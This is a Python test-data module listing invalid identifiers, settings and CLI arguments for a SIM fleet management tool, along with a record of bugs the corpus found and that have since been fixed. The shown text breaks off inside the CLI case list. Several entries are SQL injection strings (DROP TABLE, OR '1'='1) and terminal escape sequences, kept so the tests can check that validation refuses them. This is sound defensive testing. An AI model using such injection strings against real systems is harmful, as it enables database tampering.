"""The bad-input corpus, as data: identifiers and settings, CLI arguments, CSV files, search.

targets.md (reliability): at least 200 cases, each refused with a message naming the field,
no traceback, the database unchanged; hostile search strings matched literally, never as a
pattern or as SQL. The test modules beside this one are parametrized over these lists; the
rules are those of shared/spec/identifiers.md and shared/spec/interface.md.

A case whose ``bug`` names a key of :data:`BUGS` once showed that bug in core or the command
line; every one is fixed, and the case stays as the test that keeps it fixed. A bug found
later is added the same way, with its case marked xfail(strict=True) until it is fixed.
"""

from __future__ import annotations

import codecs
from collections.abc import Callable
from pathlib import Path
from typing import Any

from simdeck.core.identifiers import make_eid, make_iccid, make_imei

# --------------------------------------------------------------------------- bugs found

#: The bugs this corpus found, all since fixed (kept as the history of each case).
BUGS: dict[str, str] = {
    "ipv4-mapped": (
        "core/identifiers.py normalize_ip: an IPv4-mapped IPv6 address (::ffff:a.b.c.d) skips "
        "the multicast/loopback/unspecified/broadcast checks (ipaddress on Python 3.11 does not "
        "look through the mapping) and is stored in IPv6 form, so ::ffff:10.1.1.1 also escapes "
        "the uniqueness check against an endpoint holding 10.1.1.1"
    ),
    "pool-zone": (
        "core/identifiers.py normalize_ip_pool: an IPv6 pool with a zone index "
        "(2001:db8::%eth0/64) is accepted and stored with the zone, which normalize_ip refuses "
        "for a static IP"
    ),
    "pool-host-address": (
        "core/records.py _check_static_ip: a static IP equal to the network or broadcast address "
        "of its group's pool (10.9.0.0 or 10.9.0.255 in 10.9.0.0/24) is accepted and written, "
        "though identifiers.md asks for a host address"
    ),
    "ref-unicode-digits": (
        "core/queries find_endpoint (also tui/cli.py _audit_endpoint_id): text.isdigit() is "
        "true for non-ASCII digits, so REF '²' reaches int() and raises ValueError (traceback, "
        "exit 1) and REF '１' (fullwidth) is taken as endpoint id 1 and acted upon"
    ),
    "search-short-glob": (
        "core/queries _contains: peewee maps the operator 'LIKE' to GLOB on SQLite, and "
        "'x GLOB p ESCAPE e' fails with OperationalError 'wrong number of arguments to function "
        "GLOB()': every search word of 1-2 characters and every name:/ref: token is a traceback"
    ),
    "search-nul": (
        "core/queries _text_match/_contains: a search word holding NUL reaches FTS5 MATCH "
        "(OperationalError 'unterminated string') or, with 1-2 characters, a LIKE pattern that "
        "SQLite cuts at the NUL (so 'a\\x00' would match every name ending in 'a')"
    ),
    "search-empty-prefix": (
        "core/queries _prefix_range: a prefix token whose value normalises to nothing "
        "(imsi:-, eid:-, imei:/, ip:\" \") indexes prefix[-1]: IndexError, traceback"
    ),
    "search-max-codepoint": (
        "core/queries _prefix_range: a prefix ending in U+10FFFF computes chr(0x110000): "
        "ValueError, traceback"
    ),
    "when-overflow": (
        "tui/cli.py When.convert: an age or an ISO time at the edge of the calendar (999999d, "
        "0001-01-01T00:00+01:00, 9999-12-31T23:59:59-14:00) raises OverflowError (traceback, "
        "exit 1) instead of an --since/--until usage error"
    ),
    "int-overflow": (
        "tui/cli.py: the JOB argument of jobs show/resume/skipped and --history / jobs list "
        "--limit are unbounded ints; a value >= 2**63 reaches SQLite and raises OverflowError "
        "'Python int too large to convert to SQLite INTEGER' (traceback, exit 1)"
    ),
    "setting-key-name": (
        "tui/cli.py settings set: KEY is a click.Choice without a metavar, so an unknown key is "
        "reported as \"Invalid value for '{allow_resume}'\": the field (KEY, setting) is not "
        "named"
    ),
    "csv-header-echo": (
        "core/importer.py _columns: the 'Found: …' part of an unknown-column message repeats "
        "the header cells raw, so a header holding NUL or a terminal escape (ESC[2J) writes "
        "those control characters to the operator's terminal (the unknown names themselves "
        "are repr()-escaped, the row errors too)"
    ),
    "state-echo": (
        "core/queries parse_state: ValidationError('state', value, …) repeats the typed "
        "value raw, so a NUL or a terminal escape typed in the search box (state:ESC[2J) is "
        "written to the operator's terminal; identifiers.py escapes values with _shown()"
    ),
    "group-named-none": (
        "core/identifiers.py normalize_group_name accepts 'none' and '-', but tui/cli.py "
        "make_filter and core/queries _token_condition read --group none / group:none as "
        "'no group', so such a group can be created and never be filtered"
    ),
}


# ------------------------------------------------------------------- identifiers, settings

ICCID_OK = make_iccid("894450031234567890")  # 8944500312345678903
EID_OK = make_eid("890490320000000000000000001234")
IMEI_OK = make_imei("49015420323751")  # 490154203237518
IMSI_OK = "001010123456789"

#: The name every message about a value of this kind starts with (identifiers.md).
FIELDS: dict[str, str] = {
    "iccid": "ICCID",
    "imsi": "IMSI",
    "imsis": "IMSI",
    "eid": "EID",
    "imei": "IMEI",
    "ip": "static IP",
    "ip_pool": "IP pool",
    "group_name": "group name",
    "tag": "tag",
    "tags": "tag",
    "name": "name",
    "reference": "reference",
}


def _wrong_last(value: str) -> str:
    """The value with its last digit changed (a wrong check digit)."""
    return value[:-1] + str((int(value[-1]) + 1) % 10)


def _fullwidth(text: str) -> str:
    """ASCII digits and letters as their fullwidth look-alikes (U+FF10...)."""
    return "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in text)


def _arabic_indic(text: str) -> str:
    """ASCII digits as Arabic-Indic digits (U+0660...)."""
    return "".join(chr(ord(c) - 48 + 0x660) if c.isdigit() else c for c in text)


def _superscript(text: str) -> str:
    sup = dict(zip("0123456789", "⁰¹²³⁴⁵⁶⁷⁸⁹", strict=True))
    return "".join(sup.get(c, c) for c in text)


# (kind, what is wrong, raw value); the field is FIELDS[kind]; a 4th item names a bug.
_IDENTIFIERS: list[tuple[Any, ...]] = [
    # ICCID: digits only, 18-22 long, starts with 89, Luhn check digit; spaces, dashes and
    # trailing F padding are dropped.
    ("iccid", "empty", ""),
    ("iccid", "whitespace only", "   "),
    ("iccid", "tab and newline only", "\t\n"),
    ("iccid", "None", None),
    ("iccid", "two digits", "89"),
    ("iccid", "16 digits", ICCID_OK[:16]),
    ("iccid", "17 digits", ICCID_OK[:17]),
    ("iccid", "23 digits", ICCID_OK + "1234"),
    ("iccid", "40 digits", "89" * 20),
    ("iccid", "wrong check digit", _wrong_last(ICCID_OK)),
    ("iccid", "check digit missing", ICCID_OK[:-1]),
    ("iccid", "scientific notation", "8.94E+18"),
    ("iccid", "scientific notation, comma", "8,944500E+18"),
    ("iccid", "scientific notation, lower case", "8.944500312345678e18"),
    ("iccid", "float from a spreadsheet", 8.944500312345679e18),
    ("iccid", "int with a wrong check digit", int(_wrong_last(ICCID_OK))),
    ("iccid", "letters", "ABCDEFGHIJKLMNOPQRS"),
    ("iccid", "letter O for zero", ICCID_OK[:5] + "O" + ICCID_OK[6:]),
    ("iccid", "Cyrillic O for zero", ICCID_OK[:5] + "\u041e" + ICCID_OK[6:]),
    ("iccid", "fullwidth digits", _fullwidth(ICCID_OK)),
    ("iccid", "Arabic-Indic digits", _arabic_indic(ICCID_OK)),
    ("iccid", "superscript digits", _superscript(ICCID_OK)),
    ("iccid", "NUL at the end", ICCID_OK + "\x00"),
    ("iccid", "escape in the middle", ICCID_OK[:9] + "\x1b" + ICCID_OK[9:]),
    ("iccid", "zero-width joiner", ICCID_OK[:9] + "\u200d" + ICCID_OK[9:]),
    ("iccid", "bad prefix 98", "98" + ICCID_OK[2:]),
    ("iccid", "leading zeros", "00" + ICCID_OK),
    ("iccid", "F padding only", "FFFF"),
    ("iccid", "F inside", ICCID_OK[:10] + "F" + ICCID_OK[10:]),
    ("iccid", "dots as separators", ".".join([ICCID_OK[:4], ICCID_OK[4:12], ICCID_OK[12:]])),
    ("iccid", "plus sign", "+" + ICCID_OK),
    ("iccid", "SQL", ICCID_OK + "' OR '1'='1"),
    ("iccid", "bytes", ICCID_OK.encode()),
    ("iccid", "bool", True),
    ("iccid", "list", [ICCID_OK]),
    ("iccid", "over-long text", "8" * 100_000),
    # IMSI: 15 digits (14 for old networks); spaces dropped, nothing else.
    ("imsi", "empty", ""),
    ("imsi", "whitespace only", "  \t "),
    ("imsi", "None", None),
    ("imsi", "five digits", "00101"),
    ("imsi", "13 digits", IMSI_OK[:13]),
    ("imsi", "16 digits", IMSI_OK + "0"),
    ("imsi", "20 digits", IMSI_OK + "12345"),
    ("imsi", "letters", "00101abcdefghij"),
    ("imsi", "scientific notation", "1.23456E+14"),
    ("imsi", "fullwidth digits", _fullwidth(IMSI_OK)),
    ("imsi", "Arabic-Indic digits", _arabic_indic(IMSI_OK)),
    ("imsi", "dashes (not dropped for an IMSI)", "001-01-0123456789"),
    ("imsi", "plus sign", "+" + IMSI_OK),
    ("imsi", "NUL", IMSI_OK + "\x00"),
    ("imsi", "dot", IMSI_OK[:5] + "." + IMSI_OK[5:]),
    ("imsi", "over-long text", "x" * 10_000),
    ("imsi", "5000 digits", "1" * 5000),
    # IMSI lists (one cell, ';' ',' or space separated): 1-16, no repeats, each valid.
    ("imsis", "separators only", ";;;"),
    ("imsis", "listed twice", f"{IMSI_OK};{IMSI_OK}"),
    ("imsis", "one bad of two", f"{IMSI_OK};123"),
    ("imsis", "17 IMSIs", ";".join(f"00101012345{i:04d}" for i in range(17))),
    ("imsis", "a list with a bad one", [IMSI_OK, "00101abc"]),
    ("imsis", "a dict", {"imsi": IMSI_OK}),
    # EID: 32 digits, value mod 97 == 1.
    ("eid", "empty", ""),
    ("eid", "whitespace only", "   "),
    ("eid", "31 digits", EID_OK[:31]),
    ("eid", "33 digits", EID_OK + "0"),
    ("eid", "wrong check digits", EID_OK[:30] + ("00" if EID_OK[30:] != "00" else "01")),
    ("eid", "all zeros", "0" * 32),
    ("eid", "letters", "A" * 32),
    ("eid", "scientific notation", "8.9049032E+31"),
    ("eid", "fullwidth digits", _fullwidth(EID_OK)),
    ("eid", "dashes (not dropped for an EID)", EID_OK[:16] + "-" + EID_OK[16:]),
    ("eid", "NUL", EID_OK + "\x00"),
    ("eid", "hex", "0x" + EID_OK[:30]),
    ("eid", "over-long text", "e" * 10_000),
    ("eid", "5000 digits (beyond int()'s 4300-digit limit)", "1" * 5000),
    # IMEI: 15 digits with a Luhn check digit (14 get theirs computed); spaces, dashes,
    # slashes dropped.
    ("imei", "empty", ""),
    ("imei", "whitespace only", " "),
    ("imei", "three digits", "123"),
    ("imei", "13 digits", IMEI_OK[:13]),
    ("imei", "16 digits (an IMEISV)", "1234567890123456"),
    ("imei", "17 digits", IMEI_OK + "00"),
    ("imei", "wrong check digit", _wrong_last(IMEI_OK)),
    ("imei", "letter", IMEI_OK[:-1] + "X"),
    ("imei", "scientific notation", "4.9E+14"),
    ("imei", "fullwidth digits", _fullwidth(IMEI_OK)),
    ("imei", "NUL", IMEI_OK + "\x00"),
    ("imei", "plus sign", "+" + IMEI_OK),
    ("imei", "dot", IMEI_OK[:6] + "." + IMEI_OK[6:]),
    ("imei", "over-long text", "i" * 10_000),
    ("imei", "5000 digits", "4" * 5000),
    # static IP: one IPv4 or IPv6 host address.
    ("ip", "empty", ""),
    ("ip", "whitespace only", "   "),
    ("ip", "None", None),
    ("ip", "octet over 255", "999.1.1.1"),
    ("ip", "three octets", "1.2.3"),
    ("ip", "five octets", "1.2.3.4.5"),
    ("ip", "leading zeros", "01.2.3.4"),
    ("ip", "hex octet", "0x0a.0.0.1"),
    ("ip", "trailing dot", "10.0.0.1."),
    ("ip", "with a port", "10.0.0.1:80"),
    ("ip", "IPv6 in brackets", "[2001:db8::1]"),
    ("ip", "host name", "localhost"),
    ("ip", "IPv4 network", "10.0.0.0/24"),
    ("ip", "IPv6 network", "2001:db8::/64"),
    ("ip", "single-host network", "10.0.0.1/32"),
    ("ip", "IPv4 multicast", "224.0.0.1"),
    ("ip", "IPv6 multicast", "ff02::1"),
    ("ip", "IPv4 unspecified", "0.0.0.0"),
    ("ip", "IPv6 unspecified", "::"),
    ("ip", "IPv4 loopback", "127.0.0.1"),
    ("ip", "IPv6 loopback", "::1"),
    ("ip", "IPv4 link-local", "169.254.1.1"),
    ("ip", "IPv6 link-local", "fe80::1"),
    ("ip", "broadcast", "255.255.255.255"),
    ("ip", "IPv6 zone", "fe80::1%eth0"),
    ("ip", "IPv6 zone on a global address", "2001:db8::1%1"),
    ("ip", "zone on IPv4", "10.0.0.1%1"),
    ("ip", "fullwidth digits", _fullwidth("10.0.0.1")),
    ("ip", "Arabic-Indic digits", _arabic_indic("10.0.0.1")),
    ("ip", "NUL", "10.0.0.1\x00"),
    ("ip", "SQL", "10.0.0.1' OR '1'='1"),
    ("ip", "over-long text", "1" * 10_000),
    ("ip", "IPv4-mapped multicast", "::ffff:224.0.0.1", "ipv4-mapped"),
    ("ip", "IPv4-mapped loopback", "::ffff:127.0.0.1", "ipv4-mapped"),
    ("ip", "IPv4-mapped unspecified", "::ffff:0.0.0.0", "ipv4-mapped"),
    ("ip", "IPv4-mapped broadcast", "::ffff:255.255.255.255", "ipv4-mapped"),
    # IP pool: a CIDR network without host bits.
    ("ip_pool", "empty", ""),
    ("ip_pool", "whitespace only", "  "),
    ("ip_pool", "garbage", "banana"),
    ("ip_pool", "no prefix", "10.0.0.0"),
    ("ip_pool", "host bits set", "10.0.0.1/24"),
    ("ip_pool", "prefix over 32", "10.0.0.0/33"),
    ("ip_pool", "IPv6 prefix over 128", "2001:db8::/129"),
    ("ip_pool", "negative prefix", "10.0.0.0/-1"),
    ("ip_pool", "two prefixes", "10.0.0.0/24/8"),
    ("ip_pool", "space before the prefix", "10.0.0.0 /24"),
    ("ip_pool", "hex prefix", "10.0.0.0/0x18"),
    ("ip_pool", "non-contiguous mask", "10.0.0.0/255.0.255.0"),
    ("ip_pool", "NUL", "10.0.0.0/24\x00"),
    ("ip_pool", "fullwidth digits", _fullwidth("10.0.0.0") + "/8"),
    ("ip_pool", "zone on IPv4", "10.0.0.0%1/24"),
    ("ip_pool", "over-long text", "x" * 10_000 + "/8"),
    ("ip_pool", "IPv6 zone", "2001:db8::%eth0/64", "pool-zone"),
    ("ip_pool", "IPv6 link-local zone", "fe80::%1/64", "pool-zone"),
    # group name: 1-64 of a-z 0-9 - _ . (upper case refused, not lowered).
    ("group_name", "empty", ""),
    ("group_name", "whitespace only", "   "),
    ("group_name", "upper case", "Fleet-A"),
    ("group_name", "all upper case", "FLEET"),
    ("group_name", "space inside", "fleet a"),
    ("group_name", "65 characters", "g" * 65),
    ("group_name", "Cyrillic o look-alike", "gr\u043eup"),
    ("group_name", "fullwidth letters", _fullwidth("group")),
    ("group_name", "slash", "eu/west"),
    ("group_name", "NUL", "fleet\x00"),
    ("group_name", "newline inside", "fleet\nb"),
    ("group_name", "tab inside", "fleet\tb"),
    ("group_name", "accented letter", "caf\u00e9"),
    ("group_name", "semicolon", "grp;drop"),
    ("group_name", "percent", "%"),
    ("group_name", "star", "fleet*"),
    ("group_name", "quote", "o'brien"),
    ("group_name", "emoji", "\U0001f69a"),
    ("group_name", "SQL", "x'; DROP TABLE endpoint_group; --"),
    ("group_name", "over-long text", "g" * 10_000),
    # tag: 1-32 of a-z 0-9 - _ . : after lower-casing A-Z.
    ("tag", "empty", ""),
    ("tag", "whitespace only", "   "),
    ("tag", "33 characters", "t" * 33),
    ("tag", "exclamation mark", "tag!"),
    ("tag", "space inside", "fleet a"),
    ("tag", "Cyrillic", "\u0442\u0430\u0433"),
    ("tag", "Cyrillic a look-alike", "t\u0430g"),
    ("tag", "fullwidth letters", _fullwidth("tag")),
    ("tag", "non-ASCII upper case (not lowered)", "\u00c9t\u00e9"),
    ("tag", "comma", "a,b"),
    ("tag", "semicolon", "a;b"),
    ("tag", "tab inside", "a\tb"),
    ("tag", "NUL", "a\x00"),
    ("tag", "hash", "#fleet"),
    ("tag", "slash", "eu/west"),
    ("tag", "percent", "%"),
    ("tag", "star", "fleet*"),
    ("tag", "quote", "it's"),
    ("tag", "emoji", "\U0001f69a"),
    ("tag", "over-long text", "t" * 10_000),
    # tag lists: each tag valid, at most 32 per endpoint.
    ("tags", "33 tags in a list", [f"t{i}" for i in range(33)]),
    ("tags", "33 tags in one text", " ".join(f"t{i}" for i in range(33))),
    ("tags", "one bad tag in a list", ["ok", "bad!"]),
    ("tags", "one bad tag in a text", "ok, bad!"),
    ("tags", "a dict", {"tag": "x"}),
    # name, reference: at most 128 characters of printable text; control characters refused.
    ("name", "NUL", "a\x00b"),
    ("name", "ANSI escape", "a\x1b[31mred"),
    ("name", "clear-screen escape", "\x1b[2J\x1b[H"),
    ("name", "bell", "ding\x07"),
    ("name", "DEL", "a\x7f"),
    ("name", "C1 control (NEL)", "a\x85b"),
    ("name", "newline inside", "truck\n7"),
    ("name", "CR LF inside", "truck\r\n7"),
    ("name", "tab inside", "truck\t7"),
    ("name", "line separator", "a\u2028b"),
    ("name", "paragraph separator", "a\u2029b"),
    ("name", "zero-width space", "a\u200bb"),
    ("name", "right-to-left override", "truck\u202e7"),
    ("name", "byte-order mark inside", "a\ufeffb"),
    ("name", "lone surrogate", "a\ud800"),
    ("name", "129 characters", "n" * 129),
    ("name", "10,000 characters", "n" * 10_000),
    ("name", "bytes", b"truck"),
    ("reference", "NUL", "VIN\x00"),
    ("reference", "ANSI escape", "\x1b[31mVIN"),
    ("reference", "newline inside", "VIN\n7"),
    ("reference", "line separator", "VIN\u2028x"),
    ("reference", "right-to-left override", "\u202eVIN"),
    ("reference", "NULs only", "\x00" * 5),
    ("reference", "129 characters", "r" * 129),
    ("reference", "10,000 characters", "r" * 10_000),
]


IDENTIFIER_CASES: list[dict[str, Any]] = [
    {
        "id": f"{item[0]}: {item[1]}",
        "kind": item[0],
        "field": FIELDS[item[0]],
        "raw": item[2],
        "bug": item[3] if len(item) > 3 else None,
    }
    for item in _IDENTIFIERS
]

#: Hostile-looking values that are valid: (kind, raw, stored form). Refusing them is a bug too.
ACCEPTED_IDENTIFIERS: list[tuple[str, Any, Any]] = [
    ("iccid", f" {ICCID_OK[:4]}-{ICCID_OK[4:12]} {ICCID_OK[12:]} ", ICCID_OK),
    ("iccid", ICCID_OK + "FF", ICCID_OK),
    ("iccid", "\ufeff" + ICCID_OK, ICCID_OK),
    ("iccid", ICCID_OK.replace("0", "0\u200b"), ICCID_OK),
    ("iccid", f"{ICCID_OK[:6]}\u2013{ICCID_OK[6:]}", ICCID_OK),
    ("imsi", IMSI_OK[:14], IMSI_OK[:14]),
    ("imsi", f"{IMSI_OK[:5]} {IMSI_OK[5:]}", IMSI_OK),
    ("imei", IMEI_OK[:14], IMEI_OK),
    ("imei", f"{IMEI_OK[:2]}-{IMEI_OK[2:8]}/{IMEI_OK[8:]}", IMEI_OK),
    ("eid", f" {EID_OK[:16]} {EID_OK[16:]} ", EID_OK),
    ("ip", " 10.0.0.1\n", "10.0.0.1"),
    ("ip", "2001:DB8:0:0::1", "2001:db8::1"),
    ("ip_pool", " 10.0.0.0/24 ", "10.0.0.0/24"),
    ("group_name", "  fleet_a.eu-1  ", "fleet_a.eu-1"),
    ("tag", " Fleet-A ", "fleet-a"),
    ("tags", "Fleet-A, fleet-a eu", ["eu", "fleet-a"]),
    ("name", "  Жук 7 🚚  ", "Жук 7 🚚"),
    ("name", "100% it's [a-z] *?", "100% it's [a-z] *?"),
    ("reference", "'); DROP TABLE endpoint; --", "'); DROP TABLE endpoint; --"),
    ("name", "n" * 128, "n" * 128),
]


# ------------------------------------------------------------------------ CLI arguments

BAD_ICCID = _wrong_last(make_iccid("894450000000000001"))
UNKNOWN_ICCID = make_iccid("894459999999999999")

#: Placeholders the CLI tests fill in from their fleet: {active} {active_iccid} {hold}
#: {pending} {suspended} {terminated} {pooled} {tagged} {ready} {group} {pool_group} {tmp}
#: {csv_ok} {not_a_db} {active_fullwidth}.
_CLI: list[tuple[Any, ...]] = [
    # (id, argv, exit code, needle(s) the message line must hold[, bug][, {"user": …}])
    # --format
    ("list --format xml", ["endpoints", "list", "--format", "xml"], 2, "--format"),
    ("show --format yaml", ["endpoints", "show", "{active}", "--format", "yaml"], 2, "--format"),
    ("sims list --format html", ["sims", "list", "--format", "html"], 2, "--format"),
    ("audit --format XML", ["audit", "--format", "XML"], 2, "--format"),
    ("groups list --format ''", ["groups", "list", "--format", ""], 2, "--format"),
    # REF
    ("show unknown id", ["endpoints", "show", "99999"], 2, "endpoint 99999"),
    ("show id 0", ["endpoints", "show", "0"], 2, "endpoint 0"),
    ("show bad ICCID", ["endpoints", "show", BAD_ICCID], 2, "ICCID"),
    ("show unknown ICCID", ["endpoints", "show", UNKNOWN_ICCID], 2, "ICCID"),
    ("show a Ready SIM", ["endpoints", "show", "{ready}"], 2, "ICCID"),
    ("show empty REF", ["endpoints", "show", ""], 2, "endpoint"),
    ("show blank REF", ["endpoints", "show", "   "], 2, "endpoint"),
    ("show decimal REF", ["endpoints", "show", "1.5"], 2, "ICCID"),
    ("show scientific REF", ["endpoints", "show", "8.94E+18"], 2, "ICCID"),
    ("show SQL REF", ["endpoints", "show", "1 OR 1=1"], 2, "ICCID"),
    ("show 202-digit REF", ["endpoints", "show", "89" + "1" * 200], 2, "ICCID"),
    ("show superscript REF", ["endpoints", "show", "²"], 2, ("ICCID", "endpoint"),
     "ref-unicode-digits"),
    ("show fullwidth REF", ["endpoints", "show", "１"], 2, ("ICCID", "endpoint"),
     "ref-unicode-digits"),
    ("audit --endpoint superscript", ["audit", "--endpoint", "²"], 2, ("ICCID", "endpoint"),
     "ref-unicode-digits"),
    ("suspend fullwidth REF", ["endpoints", "suspend", "{active_fullwidth}", "--yes"], 2,
     ("ICCID", "endpoint"), "ref-unicode-digits"),
    ("suspend unknown REF", ["endpoints", "suspend", "424242"], 2, "endpoint 424242"),
    ("suspend good and unknown REF", ["endpoints", "suspend", "{active}", "424242", "--yes"], 2,
     "endpoint 424242"),
    ("suspend bad ICCID", ["endpoints", "suspend", BAD_ICCID], 2, "ICCID"),
    ("terminate bad ICCID", ["endpoints", "terminate", BAD_ICCID, "--yes"], 2, "ICCID"),
    ("link bad SIM ICCID", ["endpoints", "link", "{hold}", BAD_ICCID], 2, "ICCID"),
    ("link unknown SIM", ["endpoints", "link", "{hold}", UNKNOWN_ICCID], 2, "ICCID"),
    ("link unknown REF", ["endpoints", "link", "99999", "{ready}"], 2, "endpoint 99999"),
    ("link a SIM not Ready to Activate", ["endpoints", "link", "{hold}", "{active_iccid}"], 1,
     "ICCID"),
    ("link to an endpoint not in Hold", ["endpoints", "link", "{active}", "{ready}"], 1,
     "allowed only from Hold"),
    # settings of one endpoint
    ("edit --static-ip 999.1.1.1", ["endpoints", "edit", "{active}", "--static-ip", "999.1.1.1"],
     2, "static IP"),
    ("edit --static-ip network", ["endpoints", "edit", "{active}", "--static-ip", "10.0.0.0/8"],
     2, "static IP"),
    ("edit --static-ip multicast", ["endpoints", "edit", "{active}", "--static-ip", "224.0.0.1"],
     2, "static IP"),
    ("edit --static-ip zone", ["endpoints", "edit", "{active}", "--static-ip", "fe80::1%eth0"],
     2, "static IP"),
    ("edit --static-ip taken", ["endpoints", "edit", "{hold}", "--static-ip", "10.1.1.1"], 2,
     "static IP"),
    ("edit --static-ip outside the pool", ["endpoints", "edit", "{pooled}", "--static-ip",
                                           "10.0.0.5"], 2, "static IP"),
    ("create --static-ip pool network address", ["endpoints", "create", "--group",
                                                 "{pool_group}", "--static-ip", "10.9.0.0"],
     2, "static IP", "pool-host-address"),
    ("create --static-ip pool broadcast address", ["endpoints", "create", "--group",
                                                   "{pool_group}", "--static-ip", "10.9.0.255"],
     2, "static IP", "pool-host-address"),
    ("create --static-ip IPv4-mapped twin of a taken one", ["endpoints", "create",
                                                            "--static-ip", "::ffff:10.1.1.1"],
     2, "static IP", "ipv4-mapped"),
    ("create --static-ip blank", ["endpoints", "create", "--static-ip", "  "], 2, "static IP"),
    ("edit --imei-lock 123", ["endpoints", "edit", "{active}", "--imei-lock", "123"], 2, "IMEI"),
    ("edit --imei-lock IMEISV", ["endpoints", "edit", "{active}", "--imei-lock",
                                 "1234567890123456"], 2, "IMEI"),
    ("create --imei-lock wrong check digit", ["endpoints", "create", "--imei-lock",
                                              _wrong_last(IMEI_OK)], 2, "IMEI"),
    ("create --imei-lock scientific", ["endpoints", "create", "--imei-lock", "4.9E+14"], 2,
     "IMEI"),
    ("edit --name NUL", ["endpoints", "edit", "{active}", "--name", "a\x00b"], 2, "name"),
    ("edit --name 129 characters", ["endpoints", "edit", "{active}", "--name", "n" * 129], 2,
     "name"),
    ("create --name clear-screen", ["endpoints", "create", "--name", "\x1b[2J"], 2, "name"),
    ("create --reference 129 characters", ["endpoints", "create", "--reference", "r" * 129], 2,
     "reference"),
    ("create --reference newline", ["endpoints", "create", "--reference", "a\nb"], 2,
     "reference"),
    ("create --tag 'bad tag!'", ["endpoints", "create", "--tag", "bad tag!"], 2, "tag"),
    ("create --tag Cyrillic", ["endpoints", "create", "--tag", "\u0442\u0430\u0433"], 2, "tag"),
    ("create 33 tags", ["endpoints", "create", *[a for i in range(33) for a in ("--tag",
                                                                                 f"t{i}")]],
     2, "tag"),
    ("edit a 33rd tag", ["endpoints", "edit", "{tagged}", "--tag", "one-more"], 2, "tag"),
    ("edit --tag upper with space", ["endpoints", "edit", "{active}", "--tag", "UPPER CASE!"], 2,
     "tag"),
    ("create --sim bad ICCID", ["endpoints", "create", "--sim", BAD_ICCID], 2, "ICCID"),
    ("create --sim scientific", ["endpoints", "create", "--sim", "8.94E+18"], 2, "ICCID"),
    ("create --sim linked elsewhere", ["endpoints", "create", "--sim", "{active_iccid}"], 1,
     "ICCID"),
    ("create --group unknown", ["endpoints", "create", "--group", "nosuch"], 2, "group nosuch"),
    ("create --group upper case", ["endpoints", "create", "--group", "Fleet"], 2, "group Fleet"),
    ("create --sim with --group unknown", ["endpoints", "create", "--sim", "{ready}", "--group",
                                           "nosuch"], 2, "group nosuch"),
    ("edit nothing to change", ["endpoints", "edit", "{active}"], 2, "nothing to change"),
    ("edit a Terminated endpoint", ["endpoints", "edit", "{terminated}", "--name", "x"], 1,
     "Terminated"),
    # filters
    ("list --group unknown", ["endpoints", "list", "--group", "nosuch"], 2, "group nosuch"),
    ("list --group pattern", ["endpoints", "list", "--group", "%"], 2, "group %"),
    ("list --state bogus", ["endpoints", "list", "--state", "bogus"], 2, "--state"),
    ("list --state empty", ["endpoints", "list", "--state", ""], 2, "--state"),
    ("list --state SQL", ["endpoints", "list", "--state", "active' OR '1'='1"], 2, "--state"),
    ("list --limit -1", ["endpoints", "list", "--limit", "-1"], 2, "--limit"),
    ("list --limit 1e3", ["endpoints", "list", "--limit", "1e3"], 2, "--limit"),
    ("list --limit ten", ["endpoints", "list", "--limit", "ten"], 2, "--limit"),
    ("list --sort bogus", ["endpoints", "list", "--sort", "bogus"], 2, "--sort"),
    ("list --search state:bogus", ["endpoints", "list", "--search", "state:bogus"], 2, "state"),
    ("export --state bogus", ["export", "{tmp}/out.csv", "--state", "bogus"], 2, "--state"),
    ("export --group unknown", ["export", "{tmp}/out.csv", "--group", "nosuch"], 2,
     "group nosuch"),
    ("export into a missing folder", ["export", "/nonexistent-folder/out.csv"], 2,
     "cannot write"),
    # bulk
    ("bulk without REF, filter or --all", ["endpoints", "suspend"], 2, "--all"),
    ("bulk REFs and a filter", ["endpoints", "suspend", "{active}", "--state", "active"], 2,
     "not both"),
    ("bulk REFs and --all", ["endpoints", "terminate", "{active}", "--all"], 2, "not both"),
    ("bulk filter without --yes", ["endpoints", "suspend", "--state", "active"], 2, "--yes"),
    ("terminate without --yes", ["endpoints", "terminate", "{active}"], 2, "--yes"),
    ("bulk --state bogus", ["endpoints", "suspend", "--state", "bogus", "--yes"], 2, "--state"),
    ("bulk --search state:bogus", ["endpoints", "suspend", "--search", "state:bogus", "--yes"],
     2, "state"),
    ("bulk --group unknown", ["endpoints", "suspend", "--group", "nosuch", "--yes"], 2,
     "group nosuch"),
    ("assign-group unknown group", ["endpoints", "assign-group", "nosuch", "{active}"], 2,
     "group nosuch"),
    ("assign-group without targets", ["endpoints", "assign-group", "{group}"], 2, "--all"),
    ("activate an Active endpoint", ["endpoints", "activate", "{active}"], 1,
     "allowed only from"),
    ("delink an endpoint in Hold", ["endpoints", "delink", "{hold}"], 1, "allowed only from"),
    ("resume against the policy", ["endpoints", "resume", "{suspended}"], 1, "allow_resume"),
    # times
    ("audit --since yesterdayish", ["audit", "--since", "yesterdayish"], 2, "--since"),
    ("audit --until month 13", ["audit", "--until", "2024-13-45"], 2, "--until"),
    ("audit --since 30 February", ["audit", "--since", "2024-02-30"], 2, "--since"),
    ("audit --since negative age", ["audit", "--since", "-1d"], 2, "--since"),
    ("audit --since 999999d", ["audit", "--since", "999999d"], 2, "--since", "when-overflow"),
    ("audit --since 999999w", ["audit", "--since", "999999w"], 2, "--since", "when-overflow"),
    ("audit --since year 1 with offset", ["audit", "--since", "0001-01-01T00:00:00+01:00"], 2,
     "--since", "when-overflow"),
    ("audit --until year 9999 with offset", ["audit", "--until", "9999-12-31T23:59:59-14:00"],
     2, "--until", "when-overflow"),
    ("audit --endpoint bad ICCID", ["audit", "--endpoint", BAD_ICCID], 2, "ICCID"),
    ("audit --limit -5", ["audit", "--limit", "-5"], 2, "--limit"),
    # deployment settings, operators
    ("settings set unknown key", ["settings", "set", "colour", "true"], 2, ("KEY", "setting"),
     "setting-key-name"),
    ("settings set maybe", ["settings", "set", "allow_resume", "maybe"], 2, "allow_resume"),
    ("settings set empty value", ["settings", "set", "allow_resume", ""], 2, "allow_resume"),
    ("users add bad role", ["users", "add", "bob", "--role", "king"], 2, "--role"),
    ("users add upper-case role", ["users", "add", "bob", "--role", "ADMIN"], 2, "--role"),
    ("users add empty name", ["users", "add", "", "--role", "viewer"], 2, "user"),
    ("users add name with a space", ["users", "add", "a b", "--role", "viewer"], 2, "user"),
    ("users add name with an escape", ["users", "add", "a\x1bb", "--role", "viewer"], 2, "user"),
    ("users remove unknown", ["users", "remove", "nosuch"], 2, "user nosuch"),
    ("users remove the last admin", ["users", "remove", "admin"], 1, "last admin"),
    # groups
    ("groups create upper case", ["groups", "create", "Fleet-A"], 2, "group name"),
